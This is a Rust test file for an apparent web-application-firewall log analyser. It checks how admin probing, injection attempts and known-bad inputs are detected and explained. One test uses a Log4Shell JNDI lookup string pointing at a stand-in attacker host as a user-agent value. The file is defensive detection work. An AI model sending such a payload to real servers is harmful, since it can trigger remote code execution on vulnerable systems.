use wafwatch_windows::summary::Dimension;

use super::*;
use crate::investigate::sample::Sample;
use crate::investigate::scenarios::{self, ADMIN_GROUP};

fn explained(sample: Sample, rule: fn(&Figures<'_>) -> Option<Hypothesis>) -> Option<Hypothesis> {
    let evidence = sample.build();
    rule(&Figures::of(&evidence))
}

#[test]
fn admin_probing_counts_a_request_once_though_group_and_rule_both_name_it() {
    let found = explained(scenarios::attack(), admin_probing).expect("admin probing");
    assert!(found.confidence >= 0.95, "{}", found.confidence);
    assert!(
        found
            .reason
            .starts_with("100 requests for administration pages"),
        "{}",
        found.reason
    );
    for named in [
        "203.0.113.7 (100)",
        "AWSManagedRulesAdminProtectionRuleSet",
        "/admin/users",
    ] {
        assert!(found.reason.contains(named), "{}", found.reason);
    }
    assert_eq!(found.effect, Effect::Attack { stopped: 1.0 });
}

#[test]
fn admin_paths_that_come_through_are_told_without_any_rule() {
    let sample = Sample::usually(50, 0, 20.0)
        .now(150, 0, 21.0)
        .values(
            Dimension::Uri,
            &[
                ("/wp-admin/", 60, 0.0),
                ("/phpMyAdmin", 40, 0.0),
                ("/", 50, 50.0),
            ],
        )
        .values(Dimension::Rule, &[("Default_Action", 150, 50.0)]);
    let found = explained(sample, admin_probing).expect("admin probing");
    assert_eq!(found.effect, Effect::Attack { stopped: 0.0 });
    assert!(
        found.actions[0].contains("came through"),
        "{:?}",
        found.actions
    );
}

#[test]
fn a_rule_that_only_counts_is_named_as_the_thing_to_mend() {
    let sample = Sample::usually(50, 0, 20.0).now(250, 0, 21.0).values(
        Dimension::CountedRule,
        &[("AWS#AWSManagedRulesSQLiRuleSet/SQLi_BODY", 200, 0.0)],
    );
    let found = explained(sample, injection_attempts).expect("injection");
    assert_eq!(found.effect, Effect::Attack { stopped: 0.0 });
    assert!(
        found.actions[0].starts_with("remove the Count override of AWS#"),
        "{:?}",
        found.actions
    );
}

#[test]
fn known_bad_inputs_are_told_by_rule_and_by_payload() {
    for values in [
        (
            Dimension::Rule,
            "AWS#AWSManagedRulesKnownBadInputsRuleSet/Log4JRCE_HEADER",
        ),
        (Dimension::Rule, "JavaDeserializationRCE_BODY"),
        (Dimension::UserAgent, "${jndi:ldap://evil.example/a}"),
    ] {
        let sample = Sample::usually(50, 0, 20.0)
            .now(250, 0, 21.0)
            .values(values.0, &[(values.1, 200, 0.0)]);
        assert!(
            explained(sample, known_bad_inputs).is_some(),
            "{}",
            values.1
        );
    }
}

#[test]
fn every_injection_group_is_known() {
    for rule in [
        "AWS-AWSManagedRulesSQLiRuleSet",
        "AWS#AWSManagedRulesCommonRuleSet/CrossSiteScripting_BODY",
        "AWS#AWSManagedRulesCommonRuleSet/GenericLFI_URIPATH",
        "AWS#AWSManagedRulesCommonRuleSet/GenericRFI_QUERYARGUMENTS",
        "AWS-AWSManagedRulesUnixRuleSet",
        "AWS-AWSManagedRulesLinuxRuleSet",
        "AWS-AWSManagedRulesWindowsRuleSet",
        "AWS-AWSManagedRulesPHPRuleSet",
        "AWS#AWSManagedRulesWordPressRuleSet/WordPressExploitablePaths_URIPATH",
        "block-xss",
    ] {
        assert!(INJECTION.has_rule(rule), "{rule}");
        assert!(!KNOWN_BAD.has_rule(rule), "{rule}");
        assert!(is_signature_rule(rule), "{rule}");
    }
    assert!(!is_signature_rule("block-rule-test-waf"));
    assert!(!is_signature_rule("AWS-AWSManagedRulesCommonRuleSet"));
}

#[test]
fn the_noise_of_every_day_is_no_attack() {
    let few = Sample::usually(50, 0, 20.0)
        .now(59, 9, 20.0)
        .values(Dimension::Rule, &[(ADMIN_GROUP, 9, 0.0)]);
    assert_eq!(explained(few, admin_probing), None);
    let usual = Sample::usually(50, 20, 20.0)
        .now(60, 30, 20.0)
        .values(Dimension::Rule, &[(ADMIN_GROUP, 30, 20.0)]);
    assert_eq!(explained(usual, admin_probing), None);
    let grown_with_everything = Sample::usually(50, 5, 20.0)
        .now(500, 50, 200.0)
        .values(Dimension::Rule, &[(ADMIN_GROUP, 50, 5.0)]);
    assert_eq!(explained(grown_with_everything, admin_probing), None);
}

#[test]
fn a_managed_rule_that_blocks_everyday_traffic_is_doubted() {
    let rule = "AWS-AWSManagedRulesSQLiRuleSet";
    let addresses = [
        ("198.51.100.1", 60),
        ("198.51.100.2", 60),
        ("198.51.100.3", 60),
    ];
    let sample = Sample::usually(200, 0, 40.0)
        .now(200, 180, 40.0)
        .values(
            Dimension::Rule,
            &[(rule, 180, 0.0), ("Default_Action", 20, 200.0)],
        )
        .values(Dimension::Uri, &[("/search", 200, 200.0)])
        .values(
            Dimension::ClientAddress,
            &[
                ("198.51.100.1", 60, 60.0),
                ("198.51.100.2", 60, 60.0),
                ("198.51.100.3", 60, 60.0),
            ],
        )
        .rule(rule, 180, &[("/search", 180)], &addresses, &[("US", 180)]);
    let evidence = sample.build();
    let figures = Figures::of(&evidence);
    let injection = injection_attempts(&figures).expect("proposed");
    let change = super::super::rule_change::rule_began_to_block(&figures).expect("proposed");
    assert!(
        change.confidence > injection.confidence,
        "{change:?} {injection:?}"
    );
}
